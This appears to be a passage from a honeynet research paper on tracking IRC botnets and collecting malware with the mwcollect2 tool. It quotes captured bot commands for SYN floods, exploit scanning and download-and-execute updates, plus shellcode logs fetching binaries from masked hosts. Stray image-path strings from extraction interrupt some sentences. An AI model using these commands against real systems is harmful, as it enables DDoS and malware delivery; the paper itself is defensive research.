    We are able to make an educated guess about the current dimension of DDoS-attacks
    caused by botnets. We can observe the commands issued by the controllers and thus see
    whenever the botnet is used for such attacks. From the beginning of November 2004 until
    the end of January 2005, we were able to observe 226 DDoS-attacks against 99 unique
    targets. Often these attacks targeted dial-up lines, but there are also attacks against bigger
    websites. In order to point out the threat posed by such attacks, we present the collected
    data about DDoS-attacks on a separate page. "Operation Cyberslam" documents one
    commercial DDoS run against competitors in online selling.

    A typical DDoS-attacks looks like the following examples: The controller enters the
    channel and issues the command (sometimes even stopping further spreading of the bots).
    After the bots have done their job, they report their status:

    [###FOO###] <~nickname> .scanstop
    [###FOO###] <~nickname> .ddos.syn 151.49.8.XXX 21 200
    [###FOO###] <-[XP]-18330> [DDoS]: Flooding: (151.49.8.XXX:21) for 200
    [###FOO###] <-[2K]-33820> [DDoS]: Done with flood (2573KB/sec).
    [###FOO###] <-[XP]-86840> [DDoS]: Done with flood (351KB/sec).
    [###FOO###] <-[XP]-62444> [DDoS]: Done with flood (1327KB/sec).
    [###FOO###] <-[2K]-38291> [DDoS]: Done with flood (714KB/sec).
    [###FOO###] <~nickname> .login 12345
    [###FOO###] <~nickname> .ddos.syn 213.202.217.XXX 6667 200
    [###FOO###] <-[XP]-18230> [DDoS]: Flooding: (213.202.217.XXX:6667) for
    200 seconds.
    [###FOO###] <-[XP]-18320> [DDoS]: Done with flood (0KB/sec).

    [###FOO###]    <-[2K]-33830>[DDoS]:   Done   with   flood   (2288KB/sec).
    [###FOO###]    <-[XP]-86870>    [DDoS]:   Done   with   flood   (351KB/sec).
    [###FOO###]    <-[XP]-62644>    [DDoS]:   Done   with   flood   (1341KB/sec).
    [###FOO###]    <-[2K]-34891>    [DDoS]:   Done   with   flood   (709KB/sec).

    Both attacks show typical targets of DDoS-attacks: FTP server on port 21/TCP or IRC
    server on port 6667/TCP.

  Spreading of botnets
    ".advscan lsass 150 5 0 -r -s" and other commands are the most frequent
    observed messages. Through this and similar commands, bots spread and search for
    vulnerable systems. Commonly, Windows systems are exploited and thus we see most
    traffic on typical Windows ports (e.g. for CIFS based file sharing). Wehave analyzed this
    in more detail and present these results on a page dedicated to spreading of bots.
  Harvesting of information
    Sometimes we can also observe the harvesting of information from allcompromised
    machines. With the help of a command like ".getcdkeys" the operator of the botnet is
    able to request a list of CD-keys (e.g. for Windows or games) from all bots. This CD-
    keys can be sold to crackers or the attacker can use them for several other purposes since
    they are considered valuable information. These operations are seldom, though.
  "Updates" within botnets
    We also observed updates of botnets quite frequently. Updating in this context means that
    the bots are instructed to download a piece of software from the Internet and then execute
    it. Examples of issued commands include:
    .download http://spamateur.freeweb/
    c:\windows\config\gamma.exe 1
    .download c:\arsetup.exe 1 -s
    !down
    C:\WINDOWS\system32\drivers\disdn\anti.exe 1
    ! dload
    C:\firewallx.exe 1
    .http.update c:\msy32awds.exe 1
    .http.update
    %temp%\vhurdx.exe -s

    (Note:We sanitized the links so the code is not accidently downloaded/executed)

    As you can see, the attackers use diverse webspace providers and often obfuscate the
    downloaded binary. The parameter "1" in the command tells the bots to execute the
    binary once they have downloaded it. This way, the bots can be dynamically updated and
    be further enhanced. We also collect the malware that the bots download and furtheranalyze it if possible. In total, we have collected 329 binaries. 201 of these files are
    malware as an analysis with "Kaspersky Anti-Virus On-Demand Scanner for Linux"

          28 Backdoor.Win32.Rbot.gen
          27 Backdoor.Win32.SdBot.gen
          22 Trojan-Dropper.Win32.Small.nm

             15   Backdoor.Win32.Brabot.d
             10   Backdoor.Win32.VB.uc
              8   Trojan.WinREG.LowZones.a6   Backdoor.Win32.Iroffer.b
              5   Trojan.Win32.LowZones.q
              5   Trojan-Downloader.Win32.Small.qd
              5   Backdoor.Win32.Agobot.gen
              4   Virus.Win32.Parite.b
              4   Trojan.Win32.LowZones.p
              4   Trojan.BAT.Zapchast
              4   Backdoor.Win32.Wootbot.gen
              4   Backdoor.Win32.ServU-based
              3   Trojan.Win32.LowZones.d
              2   Virus.BAT.Boho.a
              2VirTool.Win32.Delf.d
              2   HackTool.Win32.Clearlog
              2   Backdoor.Win32.Wootbot.u
              2   Backdoor.Win32.Iroffer.1307
              2   Backdoor.Win32.Iroffer.1221
              2   Backdoor.Win32.HacDef.084
              1   Trojan.Win32.Rebooter.n
              1   Trojan.Win32.LowZones.ab
              1   Trojan.Win32.KillFiles.hb
              1   Trojan-Spy.Win32.Quakart.r
              1   Trojan-Downloader.Win32.Zdown.101
              1Trojan-Downloader.Win32.IstBar.gv
              1   Trojan-Downloader.Win32.Agent.dn
              1   Net-Worm.Win32.DipNet.f
              1   HackTool.Win32.Xray.a
              1   HackTool.Win32.FxScanner
              1   Backdoor.Win32.Wootbot.ab
              1   Backdoor.Win32.Spyboter.gen
              1   Backdoor.Win32.Rbot.ic
              1   Backdoor.Win32.Optix.b
              1   Backdoor.Win32.Agent.ds

       Most of the other binary files are either adware (a program that displays banners while
       being run, or reports users habits or information to third parties), proxy servers (a
       computer process that relays a protocol between client and server computer systems) or
       Browser Helper Objects.

An event that is not that unusual is that somebody steals a botnet from someone else. It can be
somewhat humorous to observe several competing attackers. As mentioned before, bots are often
"secured" by some sensitive information, e.g. channel name or server password. If one is able to

obtain all this information, he is able to update the bots within another botnet to another bot
binary, thus stealing the bots from another botnet. For example, some time ago we could monitor
when the controller of Botnet #12 stole bots from the seemingly abandoned Botnet #25.

We recently had a very unusual update run on one of our monitored botnets: Everything went
fine, the botnet master authenticated successfully and issued the command to download and
execute the new file. Our client drone downloaded the file and it got analyzed, we set up a client
with thespecial crafted nickname, ident, and user info. But then our client could not connect to
the IRC server to join the new channel. The first character of the nickname was invalid to use on
that IRCd software. This way, the (somehow dumb) attacker just lost about 3,000 bots which
hammer their server with connect tries forever.

Something which is interesting, but rarely seen, is botnet owners discussing issues in their bot
channel. We observed several of those talks and learned more about their social life this way. Weonce observed a small shell hoster hosting a botnet on his own servers and DDoSing competitors.
These people chose the same nicknames commanding the botnet as giving support for their shell
accounts in another IRC network. Furthermore, some people who run botnets offer an excellent
pool of information about themselves as they do not use free and anonymous webhosters to run
updates on their botnets. These individuals demonstrate how even unskilled people can run and
leverage a botnet.

Our observations showed that often botnets are run by young males with surprisingly limited
programming skills. The scene forums are crowded of posts like "How can i compile *" and
similar questions. These people often achieve a good spread of their bots, but their actions are
more or less harmless. Nevertheless, we also observed some more advanced attackers: these
persons join the control channel only seldom. They use only 1 character nicks, issue a command
and leave afterwards. The updates of the bots they run are very professional. Probably these
people use the botnets for commercial usage and "sell" the services. A low percentage use their
botnets for financial gain. For example, by installing Browser Helper Objects for companies
tracking/fooling websurfers or clicking pop-ups. A very small percentage of botnet runners
seems highly skilled, they strip down their IRCd software to a non RFC compliant daemon, not
even allowing standard IRC clients to connect.

Another possibility is to install special software to steal information. We had one very interesting
case in which attackers stole Diablo 2 items from the compromised computers and sold them on
eBay. Diablo 2 is a online game inwhich you can improve your character by collecting powerful
items. The more seldom an item is, the higher is the price on eBay. A search on eBay for Diablo
2 shows that some of these items allow an attacker to make a nice profit. Some botnets are used
to send spam: you can rent a botnet. The operators give you a SOCKS v4 server list with the IP
addresses of the hosts and the ports their proxy runs on. There are documented cases where
botnets were sold to spammers as spam relays: "Uncovered: Trojans as Spam Robots ". You can
see an example of an attacker installing software (in this case rootkits) in a captured example.

Further Research

An area of research we are leading to improve botnet tracking is in malware collection. Under
the project name mwcollect2 the German Honeynet Project is developing a program to "collect"
malware in an simple and automated fashion. The mwcollect2 daemon consists of multiple
dynamically linked modules:

        Vulnerability modules: They open some common vulnerable ports (e.g. 135 or 2745)
          and simulate the vulnerabilities according to these ports.
        Shellcode parsing modules: These modules turn the shellcodes received by one of the
          vulnerability modules in generic URLs to be fetched by another kind of module.
        And finally, Fetch modules which simply download the files specified by an URL.
          These URLs do not necessarily have to be HTTP or FTP URLs, but can also be TFTP orother protocols.

Currently mwcollect2 supports the simulation of different vulnerabilities. The following two
examples show the software in action. In the first example, mwcollect2 simulates a vulnerability
on TCP port 135 and catches a piece of malware in an automated fashion:

mwc-tritium:    DCOM Shellcode starts at byte 0x0370 and is 0x01DC bytes
mwc-tritium:    Detected genericXOR Decoder, key is 12h, code is e8h (e8h)
bytes long.
mwc-tritium:    Detected generic CreateProcess Shellcode: "tftp.exe -i
XXX.XXX.XXX.XXX get cdaccess6.exe"
mwc-tritium:    Pushed fetch request for
mwc-tritium:    Finished fetching cdaccess6.exe

And in the second example the software simulates a machine that can be exploited through the
backdoor left by the Bagle worm. Again, mwcollect2 is able to successfully fetch the malware.

mwc-tritium:    Bagle connection from XXX.XXX.XXX.XXX:4802 (to :2745).
mwc-tritium:    Bagle session with invalid auth string:
mwc-tritium:    Successful bagle session, fetch
mwc-tritium:    Pushed fetch request for
mwc-tritium:    Downloading of ftp://bla:bla@XXX.XXX.XXX.XXX:4847/bot.exe
(ftp://bla:bla@XXX.XXX.XXX.XXX:4847/bot.exe) successful.

The following listings shows the effectiveness of this approach:

 7x        mwc-datasubm.1108825284.7ad37926              2005-02-19 16:01 CET
 1x        mwc-datasubm.1108825525.4a12d190              2005-02-19 16:05 CET
 1x        mwc-datasubm.1108825848.7091609b              2005-02-19 16:10 CET
 2x        mwc-datasubm.1108826117.20bf1135              2005-02-19 16:15 CET

78x      mwc-datasubm.1108826639.4a2da0bb                 2005-02-19 16:23 CET
19x      mwc-datasubm.1108826844.36d259cc                 2005-02-19 16:27 CET
 3x      mwc-datasubm.1108827274.77b0e14b                 2005-02-19 16:34 CET
 3x      mwc-datasubm.1108827430.3c0bb9c9                 2005-02-19 16:37 CET
 4x      mwc-datasubm.1108828105.6db0fb19                 2005-02-19 16:48 CET
29x      mwc-datasubm.1108828205.11d60330                 2005-02-19 16:50 CET
 2x      mwc-datasubm.1108828228.500c4315                 2005-02-19 16:50 CET
 1x      mwc-datasubm.1108828305.7c2a39a8                 2005-02-19 16:51 CET
34x      mwc-datasubm.1108828311.655d01da                 2005-02-19 16:51 CET
 1x      mwc-datasubm.1108828418.178aede3                 2005-02-19 16:53 CET
 1x      mwc-datasubm.1108828822.466083aa                 2005-02-19 17:00 CET
 1x      mwc-datasubm.1108829309.705a683c                 2005-02-19 17:08 CET
11x      mwc-datasubm.1108829323.4f579112                 2005-02-19 17:08 CET
 1x      mwc-datasubm.1108829553.56e1167d                 2005-02-19 17:12 CET
11x      mwc-datasubm.1108830012.4bbdedd9                 2005-02-19 17:20 CET
 1x      mwc-datasubm.1108830074.1ca9565f                 2005-02-19 17:21 CET
98x      mwc-datasubm.1108830171.6ea1f079                 2005-02-19 17:22 CET
 1x      mwc-datasubm.1108830729.50dbf813                 2005-02-19 17:32 CET1x      mwc-datasubm.1108831490.3cd98651                 2005-02-19 17:44 CET
13x      mwc-datasubm.1108832205.5eef6409                 2005-02-19 17:56 CET

With the help of just one sensor in a dial-in network we were able to fetch 324 binaries with a
total of 24 unique ones within a period of two hours. The uniqueness of the malware was
computed with the help of md5sum, a tool to compute and check MD5 message digests.

The big advantage of using mwcollect2 to collect the bots is clearly stability: A bot trying to
exploit a honeypot running Windows 2000 with shellcode which contains an jmp ebx offset for
Windows XP will obviously crash the service. In most cases, the honeypot will be forced to
reboot. In contrast to this, mwcollect2 can be successfully exploited by all of those tools and
hence catch a lot more binaries this way. In addition, mwcollect2 is easier to deploy - just a
single make command and the collecting can begin (you however might want to change the
configuration). Yet the downside of catching bots this way is that binaries still have to be

reviewed manually. A honeypot behind a Honeywall with snort_inline filtering out the relevant
IRC traffic could even set up the sniffing drone automatically after exploitation.

In this paper we have attempted to demonstrate how honeynets can help us understand howbotnets work, the threat they pose, and how attackers control them. Our research shows that
some attackers are highly skilled and organized, potentially belonging to well organized crime
structures. Leveraging the power of several thousand bots, it is viable to take down almost any
website or network instantly. Even in unskilled hands, it should be obvious that botnets are a
loaded and powerful weapon. Since botnets pose such a powerful threat, we need a variety of
mechanisms to counter it.

Decentralized providers like Akamai can offer some redundancy here, but very large botnets can
also pose a severe threat even against this redundancy. Taking down of Akamai would impactvery large organizations and companies, a presumably high value target for certain organizations
or individuals. We are currently not aware of any botnet usage to harm military or government
institutions, but time will tell if this persists.

In the future, we hope to develop more advanced honeypots that help us to gather information
about threats such as botnets. Examples include Client honeypots thatactively participate in
networks (e.g. by crawling the web, idling in IRC channels, or using P2P-networks) or modify
honeypots so that they capture malware and send it to anti-virus vendors for further analysis.
